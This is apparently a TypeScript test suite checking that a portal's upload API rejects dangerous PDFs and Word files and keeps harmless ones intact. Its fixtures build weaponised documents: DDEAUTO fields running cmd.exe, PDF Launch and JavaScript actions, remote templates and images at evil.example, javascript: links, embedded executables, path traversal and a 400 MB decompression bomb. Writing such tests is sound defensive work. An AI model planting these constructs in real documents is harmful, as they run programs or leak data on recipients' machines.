import { deflateSync } from "node:zlib";
import { PDFName, PDFString } from "@cantoo/pdf-lib";
import PDFKit from "pdfkit";
import { beforeAll, describe, expect, it } from "vitest";
import { attached, docx, p, pdf, related } from "./fixtures/documents.ts";
import { openPortal, type Portal, signIn } from "./fixtures/portal.ts";
import { demo, fetchFile, send, stateOf } from "./fixtures/uploads.ts";

let portal: Portal;
let token = "";
beforeAll(async () => {
  portal = await openPortal();
  token = await signIn(portal, "admin");
});
const upload = (bytes: Buffer, filename: string) => send(portal, token, bytes, { url: "/api/UpLoadFile/Upload?kind=file", filename });

type Make = () => Buffer | Promise<Buffer>;
type Sample = readonly [title: string, make: Make, said: string];

const action = (S: string, more: object = {}) => ({ S, Type: "Action", ...more });
const opening =
  (S: string, more: object = {}, packed = false): Make =>
  () =>
    pdf(({ catalog, context }) => catalog.set(PDFName.of("OpenAction"), context.register(context.obj(action(S, more)))), packed);

const PDFS: readonly Sample[] = [
  ["a script of the document", () => pdf(({ document }) => document.addJavaScript("a", "app.alert(1)")), "JavaScript"],
  ["a script in packed objects", () => pdf(({ document }) => document.addJavaScript("a", "app.alert(1)"), true), "JavaScript"],
  ["a script when it is opened", opening("JavaScript", { JS: PDFString.of("app.alert(1)") }), "JavaScript"],
  ["a script that nothing leads to", () => pdf(({ context }) => context.register(context.obj(action("JavaScript"))), true), "JavaScript"],
  ["a script whose name is written in numbers", scriptInNumbers, "JavaScript"],
  ["a program to start", opening("Launch", { F: PDFString.of("cmd.exe") }), "启动程序的动作"],
  ["a program to start, packed", opening("Launch", { F: PDFString.of("cmd.exe") }, true), "启动程序的动作"],
  ["a form that sends itself", opening("SubmitForm", { F: PDFString.of("http://example.com") }), "发送数据的动作"],
  ["data from elsewhere", opening("ImportData"), "读取文件的动作"],
  ["a web page in it", () => pdf(attached("a.html", "text/html")), "嵌入的文件"],
  ["a program in it", () => pdf(attached("a.exe", "application/octet-stream"), true), "嵌入的文件"],
  [
    "a web page behind it",
    async () => Buffer.concat([await pdf(() => null), Buffer.from("<html><script>alert(1)</script>")]),
    "嵌入的网页",
  ],
  [
    "an XFA form",
    () => pdf(({ catalog, context }) => catalog.set(PDFName.of("AcroForm"), context.obj({ XFA: [] }))),
    "可执行的表单（XFA）",
  ],
  ["a password", () => kit({ userPassword: "x" }), "打开密码"],
  ["nothing but a head", () => Buffer.from("%PDF-1.7\n"), "无法读取的内容"],
  ["no end", () => demo("pdf").subarray(0, 400), "无法读取的内容"],
];

const MACRO_TYPE =
  '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
const field = (...texts: readonly string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${texts.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join("")}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const DOCUMENTS: readonly Sample[] = [
  [
    "a template elsewhere",
    () => docx(p("x"), related("attachedTemplate", "http://evil.example/t.dotm")),
    "外部内容（http://evil.example/t.dotm）",
  ],
  ["a picture elsewhere", () => docx(p("x"), related("image", "http://evil.example/a.png")), "外部内容（http://evil.example/a.png）"],
  ["a picture on a share", () => docx(p("x"), related("image", "\\\\evil\\a.png")), "外部内容（\\\\evil\\a.png）"],
  [
    "a picture elsewhere that does not say so",
    () => docx(p("x"), related("image", "//evil.example/a.png", "")),
    "外部内容（//evil.example/a.png）",
  ],
  [
    "a way out in numbers",
    () => docx(p("x"), related("image", "http://e.example/a", ' TargetMode="&#69;xternal"')),
    "外部内容（http://e.example/a）",
  ],
  ["a link that runs", () => docx(p("x"), related("hyperlink", "javascript:alert(1)")), "不安全的链接（javascript:alert(1)）"],
  ["an object in it", () => docx(p("x"), { "word/embeddings/oleObject1.bin": "MZ" }), "嵌入的文件（word/embeddings/oleObject1.bin）"],
  ["a web page in it", () => docx(p("x"), related("aFChunk", "/word/a.xml", "")), "嵌入的内容（aFChunk）"],
  ["a web page beside it", () => docx(p("x"), { "word/a.html": "<html></html>" }), "不属于文档的文件（word/a.html）"],
  ["another document in its text", () => docx('<w:altChunk r:id="rId7"/>'), "嵌入的网页或文档（altChunk）"],
  ["macros by another name", () => docx(p("x"), { "word/vbaData.xml": "<a/>" }), "宏或控件（word/vbaData.xml）"],
  ["macros by their type", () => docx(p("x"), { "[Content_Types].xml": MACRO_TYPE }), "宏或控件"],
  ["a control", () => docx(p("x"), { "word/activeX/activeX1.xml": "<a/>" }), "宏或控件（word/activeX/activeX1.xml）"],
  ["a field that starts a program", () => docx(field(' DDEAUTO c:\\\\cmd.exe "/c calc"')), "启动程序的域（DDE）"],
  ["such a field cut in pieces", () => docx(field(" DD", "EAU", 'TO c:\\\\cmd.exe "/c calc"')), "启动程序的域（DDE）"],
  ["a field that fetches", () => docx(field(' INCLUDEPICTURE "http://evil.example/a.png" \\d ')), "读取外部内容的域"],
  ["a way out of its folder", () => docx(p("x"), { "word/../../a.xml": "<a/>" }), "不属于文档的文件（word/../../a.xml）"],
  ["a program beside it", () => docx(p("x"), { "word/media/a.exe": "MZ" }), "不属于文档的文件（word/media/a.exe）"],
  ["a part twice", () => docx(p("x"), { "word/DOCUMENT.xml": "<a/>" }), "重复的文件 word/DOCUMENT.xml"],
  ["a declaration of its own", () => docx(p("x"), { "word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }), "文档类型声明（word/a.xml）"],
  ["a part that is no XML", () => docx(p("x"), { "word/a.xml": "<a><b></a>" }), "无法读取的文件（word/a.xml）"],
  [
    "heads that say other names",
    () => renamed(docx(p("x"), { "word/aaaa.xml": "<a/>" }), "word/aaaa.xml", "word/bbbb.xml"),
    "无法读取的文件（word/aaaa.xml）",
  ],
];

describe("a document that does more than be read", () => {
  it.each(PDFS)("a PDF with %s is refused", async (_title, make, said) => {
    const before = await stateOf(portal);
    const answer = await upload(await make(), "回单.pdf");
    expect(answer).toMatchObject({ status: 200, Code: 422 });
    expect(answer.Msg).toMatch(/^上传失败：PDF中有.*，请去掉后重新上传$/);
    expect(answer.Msg).toContain(said);
    expect(await stateOf(portal)).toEqual(before);
  });

  it.each(DOCUMENTS)("a Word document with %s is refused", async (_title, make, said) => {
    const before = await stateOf(portal);
    expect(await upload(await make(), "合同.docx")).toMatchObject({
      status: 200,
      Code: 422,
      Msg: `上传失败：Word 文档中有${said}，请去掉后重新上传`,
    });
    expect(await stateOf(portal)).toEqual(before);
  });

  it("an old Word document with macros is refused", async () => {
    const old = Buffer.concat([demo("doc"), Buffer.from("_VBA_PROJECT", "utf16le")]);
    expect(await upload(old, "合同.doc")).toMatchObject({ Code: 422, Msg: "上传失败：Word 文档中有宏或控件，请去掉后重新上传" });
  });

  it("that unpacks to more than it says, or takes too long, is refused, and the next one is looked at", async () => {
    const zeros = deflateSync(Buffer.alloc(400 * 1024 * 1024));
    const head = Buffer.from(`%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 9/First 9/Filter/FlateDecode/Length ${zeros.length}>>\nstream\n`);
    const bomb = Buffer.concat([head, zeros, Buffer.from("\nendstream\nendobj\ntrailer<</Root 2 0 R>>\n%%EOF\n")]);
    expect(await upload(bomb, "a.pdf")).toMatchObject({ Code: 422, Msg: expect.stringContaining("无法读取的内容") });
    expect(await upload(demo("pdf"), "a.pdf")).toMatchObject({ Code: 200 });
  });

  it("is told all of it at once", async () => {
    const answer = await upload(docx(field(" DDE x y "), { ...related("image", "http://e.example/a"), "word/a.exe": "MZ" }), "合同.docx");
    for (const part of ["启动程序的域（DDE）", "外部内容（http://e.example/a）", "不属于文档的文件（word/a.exe）"])
      expect(answer.Msg).toContain(part);
  });
});

describe("a document that is read", () => {
  it.each<readonly [string, string, Make]>([
    ["a PDF", "a.pdf", () => demo("pdf")],
    ["a PDF with packed objects", "a.pdf", () => pdf(() => null, true)],
    ["a PDF that may not be changed", "a.pdf", () => kit({ ownerPassword: "x" })],
    ["a Word document", "a.docx", () => demo("docx")],
    ["an old Word document", "a.doc", () => demo("doc")],
    ["a Word document with a link", "a.docx", () => docx(p("x"), related("hyperlink", "https://example.com/?a=1&amp;b=2"))],
    ["a Word document with a picture", "a.docx", () => docx(p("x"), { ...related("image", "media/a.png", ""), "word/media/a.png": "x" })],
    ["a Word document that writes about DDE", "a.docx", () => docx(p("DDEAUTO c:\\cmd.exe"))],
  ])("%s is kept to the byte", async (_title, name, make) => {
    const bytes = await make();
    const { Code, Msg } = await upload(bytes, name);
    expect([Code, Msg]).toEqual([200, expect.stringContaining("/uploads/")]);
    expect((await fetchFile(portal, token, Msg)).rawPayload.equals(bytes)).toBe(true);
  });
});

function kit(options: object): Promise<Buffer> {
  const document = new PDFKit(options);
  const chunks: Buffer[] = [];
  document.on("data", (chunk: Buffer) => chunks.push(chunk));
  document.text("hi").end();
  return new Promise((resolve) => document.on("end", () => resolve(Buffer.concat(chunks))));
}

/** A name may be written with its characters' numbers. */
async function scriptInNumbers(): Promise<Buffer> {
  const plain = await opening("JavaScript")();
  return Buffer.from(plain.toString("latin1").replace("/S /JavaScript", "/S /J#61vaScrip#74"), "latin1");
}

/** The archive with another name in the directory than at the file itself. */
function renamed(bytes: Buffer, name: string, instead: string): Buffer {
  const copy = Buffer.from(bytes);
  copy.write(instead, copy.indexOf(name), "latin1");
  return copy;
}
